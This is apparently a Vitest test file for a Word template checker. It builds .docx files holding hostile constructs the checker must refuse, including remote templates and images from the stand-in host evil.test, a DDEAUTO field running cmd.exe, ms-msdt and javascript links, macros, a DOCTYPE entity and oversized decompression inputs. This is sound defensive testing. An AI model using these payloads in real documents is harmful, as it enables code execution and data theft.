import { readdirSync, readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import Docxtemplater from 'docxtemplater'
import { strToU8, zipSync } from 'fflate'
import PizZip from 'pizzip'
import { describe, expect, it } from 'vitest'
import { checkTemplate, problemLine } from './check-template'
import { fillTemplate } from './fill-template'

const engine = { PizZip, Docxtemplater }
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
const NAMESPACES = [
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"',
  'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"',
  'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"',
  'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"',
].join(' ')

interface Parts {
  /** The content of the body, after one valid tag. */
  body?: string
  /** Relationships of the document. */
  rels?: string
  /** Overrides of types, by name. */
  types?: Record<string, string>
  files?: Record<string, string>
  /** Replaces the beginning of the document's part. */
  prolog?: string
}

const paragraph = (words: string) => `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>`
const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationship Id="x" Type="${type.includes(':') ? type : OFFICE + type}" Target="${target}"${mode}/>`
const inside = (type: string, target: string) => relation(type, target, '')
const relationships = (rels: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}</Relationships>`
const field = (code: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r>` +
  `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

function wordFile({ body = '', rels = '', types = {}, files = {}, prolog = '' }: Parts): Uint8Array {
  const overrides = Object.entries({ 'word/document.xml': `${WORD}document.main+xml`, ...types })
    .map(([name, type]) => `<Override PartName="/${name}" ContentType="${type}"/>`)
    .join('')
  return zipSync(
    Object.fromEntries(
      Object.entries({
        '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>${overrides}</Types>`,
        '_rels/.rels': relationships(inside('officeDocument', 'word/document.xml')),
        'word/document.xml': `${prolog}<w:document ${NAMESPACES}><w:body>${paragraph('Dear {crew.fullName}')}${body}<w:sectPr/></w:body></w:document>`,
        'word/_rels/document.xml.rels': relationships(rels),
        ...files,
      }).map(([name, text]) => [name, strToU8(text)]),
    ),
  )
}

const linesOf = (bytes: Uint8Array) => checkTemplate(engine, bytes).problems.map(problemLine)

const hostile: readonly (readonly [string, Parts, RegExp])[] = [
  [
    'an attached template on the web',
    { rels: relation('attachedTemplate', 'https://evil.test/a.dotm') },
    /attachedTemplate/,
  ],
  [
    'an attached template on a network share',
    { rels: relation('attachedTemplate', '\\\\evil\\a.dotm') },
    /attachedTemplate/,
  ],
  ['a picture from the web', { rels: relation('image', 'https://evil.test/a.png') }, /“image” \(https/],
  [
    'a picture from the web in single quotes',
    {
      rels: `<Relationship TargetMode='External' Target='http://evil.test/a.png' Type='${OFFICE}image' Id='x'/>`,
    },
    /from another place/,
  ],
  [
    'a picture from the web under another XML prefix',
    {
      files: {
        'word/_rels/document.xml.rels': `<q:Relationships xmlns:q="http://schemas.openxmlformats.org/package/2006/relationships"><q:Relationship Id="x" Type="${OFFICE}image" Target="http://evil.test/a" TargetMode="External"/></q:Relationships>`,
      },
    },
    /from another place/,
  ],
  [
    'an external picture whose mode is in small letters, between spaces',
    { rels: relation('image', 'http://evil.test/a', ' TargetMode=" external "') },
    /another place/,
  ],
  [
    'an external picture whose mode is written in XML entities',
    { rels: relation('image', 'http://evil.test/a', ' TargetMode="&#69;xternal"') },
    /another place/,
  ],
  [
    'the web address of a picture without a mode',
    { rels: inside('image', 'http://evil.test/a.png') },
    /another place/,
  ],
  ['a picture on a network share without a mode', { rels: inside('image', '//evil/a.png') }, /another place/],
  ['a picture from the disk', { rels: relation('image', 'file:///etc/passwd') }, /another place/],
  ['an OLE link', { rels: relation('oleObject', 'http://evil.test/a.xls') }, /oleObject/],
  ['a frame from the web', { rels: relation('frame', 'http://evil.test/a.htm') }, /frame/],
  ['a subdocument from the web', { rels: relation('subDocument', 'http://evil.test/b.docx') }, /subDocument/],
  [
    'the data source of a mail merge',
    { rels: relation('mailMergeSource', 'file:///c:/a.mdb') },
    /mailMergeSource/,
  ],
  [
    'a link that runs a script',
    { rels: relation('hyperlink', 'javascript:alert(1)') },
    /link to “javascript/,
  ],
  [
    'a link that runs a script, after spaces',
    { rels: relation('hyperlink', '  JavaScript:alert(1)') },
    /link to “JavaScript/,
  ],
  [
    'a link to the disk',
    { rels: relation('hyperlink', 'file:///c:/windows/system32/calc.exe') },
    /link to “file/,
  ],
  ['a link to a network share', { rels: relation('hyperlink', '\\\\evil\\share') }, /link to/],
  [
    'a link that starts a program',
    { rels: relation('hyperlink', 'ms-msdt:/id PCWDiagnostic') },
    /link to “ms-msdt/,
  ],
  ['a link of data', { rels: relation('hyperlink', 'data:text/html,x') }, /link to “data/],
  ['a link of vbscript', { rels: relation('hyperlink', 'vbscript:x') }, /link to “vbscript/],
  ['DDE', { body: field(' DDE excel "c:\\x" ') }, /paragraph 2, has the Word field “DDE/],
  [
    'a DDEAUTO field in small letters',
    { body: field('ddeauto c:\\\\windows\\\\cmd.exe "/k calc"') },
    /the Word field “ddeauto/,
  ],
  [
    'a DDEAUTO field that is split into pieces',
    {
      body: '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:rPr><w:b/></w:rPr><w:instrText>EAUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    },
    /the Word field “DDEAUTO cmd/,
  ],
  ['an INCLUDETEXT field', { body: field('INCLUDETEXT "http://evil.test/a.docx"') }, /INCLUDETEXT/],
  [
    'an INCLUDEPICTURE field',
    { body: field('INCLUDEPICTURE "http://evil.test/a.png" \\d') },
    /INCLUDEPICTURE/,
  ],
  [
    'a field without an end',
    {
      body: '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IMPORT x</w:instrText></w:r></w:p>',
    },
    /IMPORT x/,
  ],
  [
    'a LINK field in the short notation',
    {
      body: '<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.8 x "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
    },
    /the Word field “LINK/,
  ],
  ['a DATABASE field', { body: field('DATABASE \\d x') }, /DATABASE/],
  ['a MACROBUTTON field', { body: field('MACROBUTTON Run here') }, /MACROBUTTON/],
  ['a QUOTE field', { body: field('QUOTE 68 68 69') }, /QUOTE/],
  [
    'a field whose kind is made by another field',
    {
      body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>REF a</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    },
    /kind is set by another field/,
  ],
  [
    'a DDE field in a tracked deletion',
    {
      body: field('PAGE').replace(
        '<w:instrText>PAGE</w:instrText>',
        '<w:delInstrText>DDE x</w:delInstrText>',
      ),
    },
    /DDE x/,
  ],
  [
    'a HYPERLINK field that runs a script',
    { body: field('HYPERLINK "javascript:x"') },
    /link to “javascript/,
  ],
  [
    'another document inside it',
    {
      body: '<w:altChunk r:id="x"/>',
      rels: inside('aFChunk', 'a.html'),
      files: { 'word/a.html': '<html/>' },
    },
    /another document/,
  ],
  [
    'an HTML page as a part of the file',
    { types: { 'word/a.htm': 'text/html' }, files: { 'word/a.htm': '<html/>' } },
    /another document/,
  ],
  [
    'an embedded object',
    { body: '<w:p><w:r><w:object><o:OLEObject/></w:object></w:r></w:p>' },
    /embedded object/,
  ],
  [
    'macros',
    {
      types: { 'word/vbaProject.bin': 'application/vnd.ms-office.vbaProject' },
      files: { 'word/vbaProject.bin': 'x' },
    },
    /macros/,
  ],
  [
    'macros under another name',
    {
      types: { 'word/media/x.dat': 'application/vnd.ms-office.vbaProject' },
      files: { 'word/media/x.dat': 'x' },
      rels: inside('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'media/x.dat'),
    },
    /macros/,
  ],
  [
    'macros without a content type',
    {
      files: { 'word/x.bin': 'x' },
      rels: inside('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'x.bin'),
    },
    /of a type/,
  ],
  [
    'the content type of a document with macros',
    { types: { 'word/document.xml': 'application/vnd.ms-word.document.macroEnabled.main+xml' } },
    /macros/,
  ],
  [
    'an ActiveX control',
    {
      types: { 'word/activeX/a.xml': 'application/vnd.ms-office.activeX+xml' },
      files: { 'word/activeX/a.xml': '<a/>' },
    },
    /controls/,
  ],
  [
    'custom buttons of the ribbon',
    {
      types: { 'customUI/a.xml': 'application/vnd.ms-office.customUI+xml' },
      files: { 'customUI/a.xml': '<a/>' },
    },
    /controls/,
  ],
  [
    'a form field with a macro',
    {
      body: '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Run"/></w:ffData></w:fldChar></w:r><w:r><w:instrText>FORMTEXT</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    },
    /runs a macro/,
  ],
  [
    'a shape with a link',
    { body: '<w:p><w:r><w:pict><v:shape href="javascript:x"/></w:pict></w:r></w:p>' },
    /link to “javascript/,
  ],
  [
    'a shape that starts a program',
    { body: '<w:p><a:hlinkClick action="ppaction://program"/></w:p>' },
    /link to “ppaction/,
  ],
  [
    'settings of a mail merge',
    {
      types: { 'word/settings.xml': `${WORD}settings+xml` },
      files: { 'word/settings.xml': `<w:settings ${NAMESPACES}><w:mailMerge/></w:settings>` },
    },
    /mail merge/,
  ],
  [
    'frames',
    {
      types: { 'word/webSettings.xml': `${WORD}webSettings+xml` },
      files: {
        'word/webSettings.xml': `<w:webSettings ${NAMESPACES}><w:frameset><w:frame><w:sourceFileName r:id="x"/></w:frame></w:frameset></w:webSettings>`,
      },
    },
    /frames/,
  ],
  ['a document type declaration', { prolog: '<!DOCTYPE x [<!ENTITY a "b">]>' }, /document type/],
  ['elements without an end', { body: '<w:p>'.repeat(2000) }, /cannot be read/],
  ['elements nested too deep', { body: `${'<w:r>'.repeat(400)}${'</w:r>'.repeat(400)}` }, /nested too deep/],
  [
    'an SVG picture',
    { types: { 'word/media/a.svg': 'image/svg+xml' }, files: { 'word/media/a.svg': '<svg/>' } },
    /SVG/,
  ],
  ['a part outside of its folder', { files: { '../../a.xml': '<a/>' } }, /built like a Word document/],
  [
    'two parts whose names differ only in capitals',
    { files: { 'WORD/document.xml': '<a/>' } },
    /built like a Word document/,
  ],
]

it.each(hostile)('the template check refuses a template with %s, and says why', (_, parts, message) => {
  expect(linesOf(wordFile(parts)).join('\n')).toMatch(message)
})

it('the refusal of a template names the part of the file that has the problem', () => {
  const header = `<w:hdr ${NAMESPACES}>${field('INCLUDETEXT x')}</w:hdr>`
  const file = wordFile({
    rels: inside('header', 'header1.xml'),
    types: { 'word/header1.xml': `${WORD}header+xml` },
    files: { 'word/header1.xml': header },
  })
  expect(linesOf(file)).toEqual([
    'Header, paragraph 1, has the Word field “INCLUDETEXT x”, which fetches, runs or asks for something. Take that field out.',
  ])
})

const everyday: readonly (readonly [string, Parts])[] = [
  ['one tag', {}],
  ['a link to a page', { rels: relation('hyperlink', 'https://www.gov.uk/ir35') }],
  ['a link in capitals', { rels: relation('hyperlink', 'HTTP://WWW.EXAMPLE.COM') }],
  ['a link to an e-mail address', { rels: relation('hyperlink', 'mailto:office@example.com') }],
  ['a link to a telephone number', { rels: relation('hyperlink', 'tel:+441174960123') }],
  ['a link to a heading', { rels: relation('hyperlink', '#_Toc1') }],
  ['page numbers', { body: field(' PAGE ') + field('NUMPAGES \\* MERGEFORMAT') }],
  ['a table of contents', { body: field('TOC \\o "1-3" \\h \\z \\u') + field('PAGEREF _Toc1 \\h') }],
  ['a date', { body: field('DATE \\@ "d MMMM yyyy"') }],
  [
    'a TITLE field in the short notation',
    { body: '<w:p><w:fldSimple w:instr=" TITLE "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>' },
  ],
  ['a link made by a field', { body: field('HYPERLINK "https://example.com" \\o "Example"') }],
  ['a HYPERLINK field to a place in the document', { body: field('HYPERLINK \\l "_Toc1"') }],
  ['an IF field', { body: field('IF 1 = 1 "a" "b"') }],
  ['a form field', { body: field('FORMTEXT') }],
  ['a picture', { rels: inside('image', 'media/a.png'), files: { 'word/media/a.png': 'x' } }],
  [
    'a picture with an absolute path',
    { rels: inside('image', '/word/media/a.png'), files: { 'word/media/a.png': 'x' } },
  ],
  [
    'a header',
    {
      rels: inside('header', 'header1.xml'),
      types: { 'word/header1.xml': `${WORD}header+xml` },
      files: { 'word/header1.xml': `<w:hdr ${NAMESPACES}>${paragraph('{reference}')}</w:hdr>` },
    },
  ],
  [
    'footnotes',
    {
      rels: inside('footnotes', 'footnotes.xml'),
      types: { 'word/footnotes.xml': `${WORD}footnotes+xml` },
      files: { 'word/footnotes.xml': `<w:footnotes ${NAMESPACES}/>` },
    },
  ],
  [
    'styles',
    {
      rels: inside('styles', 'styles.xml'),
      types: { 'word/styles.xml': `${WORD}styles+xml` },
      files: { 'word/styles.xml': `<w:styles ${NAMESPACES}/>` },
    },
  ],
  [
    'an empty list of comments',
    {
      rels: inside('comments', 'comments.xml'),
      types: { 'word/comments.xml': `${WORD}comments+xml` },
      files: { 'word/comments.xml': `<w:comments ${NAMESPACES}/>` },
    },
  ],
  [
    'the names of its authors',
    {
      rels: inside('http://schemas.microsoft.com/office/2011/relationships/people', 'people.xml'),
      types: { 'word/people.xml': `${WORD}people+xml` },
      files: { 'word/people.xml': '<p/>' },
    },
  ],
  [
    'custom XML data',
    { rels: inside('customXml', '../customXml/item1.xml'), files: { 'customXml/item1.xml': '<a/>' } },
  ],
  [
    'tab stops',
    {
      body: '<w:p><w:pPr><w:tabs><w:tab w:val="left" w:pos="720"/></w:tabs></w:pPr><w:r><w:t>a</w:t></w:r></w:p>',
    },
  ],
  [
    'a text box',
    {
      body: `<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>${paragraph('{reference}')}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>`,
    },
  ],
  [
    'a table',
    {
      body: `<w:tbl><w:tr><w:tc>${paragraph('{#rates}{rate.item}')}</w:tc><w:tc>${paragraph('{rate.amount}{/rates}')}</w:tc></w:tr></w:tbl>`,
    },
  ],
  ['a content control', { body: `<w:sdt><w:sdtContent>${paragraph('{reference}')}</w:sdtContent></w:sdt>` }],
  ['a page break', { body: '<w:p><w:r><w:br w:type="page"/></w:r></w:p>' }],
  ['a byte order mark', { prolog: '\uFEFF<?xml version="1.0" encoding="UTF-8"?>' }],
  ['a docProps folder', { files: { 'docProps/app.xml': '<a/>' } }],
  ['spaces in its tags', { body: paragraph('{ crew.fullName } {# tripNumber }{tripNumber}{/ tripNumber }') }],
  [
    'an XML comment and a spelling mark',
    { body: '<w:p><!-- a note --><w:proofErr w:type="spellStart"/></w:p>' },
  ],
]

it.each(everyday)('the template check accepts a template with %s', (_, parts) => {
  expect(linesOf(wordFile(parts))).toEqual([])
})

describe('the sample Word files', () => {
  const folder = resolve(import.meta.dirname, '../../../../../tests/fixtures/docx')
  const refused: Readonly<Record<string, RegExp>> = {
    'd03-tracked-delete': /paragraph 1, has tracked changes/,
    'd06-mergefield': /merge field “MERGEFIELD FullName”/,
    'd08-smart-case': /Did you mean \{crew.fullName\}/,
    'd09-line-break-in-tag': /Did you mean \{crew.fullName\}/,
    'd11-double-braces': /brace is opened/,
    'd12-literal-braces': /no tag \{1\}/,
    'd13-dotx': /template of Word/,
    'd14-attached-template': /attach Normal/,
    'd15-header-first': /has no tag/,
    'd19-rtf-named-docx': /RTF/,
    'd20-old-doc': /old Word/,
    'd22-formfield': /tag in the Word field/,
    'd23-curly-quote-lookalike': /has no tag/,
    'd24-no-tags': /has no tag/,
    'd25-tracked-insert-loop': /tracked changes/,
    'd26-comment': /has comments/,
    'd27-utf16-xml': /UTF-16/,
    'd28-unknown-after-textbox': /no tag \{noSuchTag\}/,
    'd29-payments-in-ins': /tracked changes/,
  }

  it.each(readdirSync(folder).map(file => file.replace('.docx', '')))(
    'are accepted and filled, or refused with the reason: %s',
    name => {
      const bytes = readFileSync(resolve(folder, `${name}.docx`))
      const lines = linesOf(bytes)
      const reason = refused[name]
      if (reason) {
        expect(lines.join('\n')).toMatch(reason)
        return
      }
      expect(lines).toEqual([])
      const { missing } = fillTemplate(engine, bytes, {
        'crew.fullName': 'Ada',
        'crew.email': 'ada@example.com',
      })
      expect(missing).toEqual([])
    },
  )
})

/** Each file is small, but unpacks to a large document. A check that takes too long ends by the time limit of every test. */
describe('a template made to slow the template check down', () => {
  const many = (text: string, bytes = 4_000_000) => text.repeat(Math.floor(bytes / text.length))

  it.each([
    ['a text of 5 million letters', paragraph('a'.repeat(5_000_000)), /more than 4 MB of text/],
    ['empty paragraphs', many('<w:p/>', 3_900_000), /100,000 elements/],
    ['100,000 runs of text', `<w:p>${many('<w:r><w:t>a</w:t></w:r>', 3_900_000)}</w:p>`, /100,000 elements/],
    ['braces', many(paragraph('{'), 900_000), /brace is opened/],
    ['long unknown tags', paragraph(`{${'ab'.repeat(500)}}`).repeat(900), /no tag \{abab/],
    ['2,000 tags', paragraph('{crew.fullName}').repeat(2000), /more than 1,000 tags/],
    [
      'sections within sections',
      paragraph(`${'{#tripNumber}'.repeat(400)}${'{/tripNumber}'.repeat(400)}`),
      /within more than 10 other sections/,
    ],
  ])('is refused because of %s, with at most 50 messages', (_, body, message) => {
    const lines = linesOf(wordFile({ body }))
    expect(lines.join('\n')).toMatch(message)
    expect(lines.length).toBeLessThanOrEqual(50)
  })
})
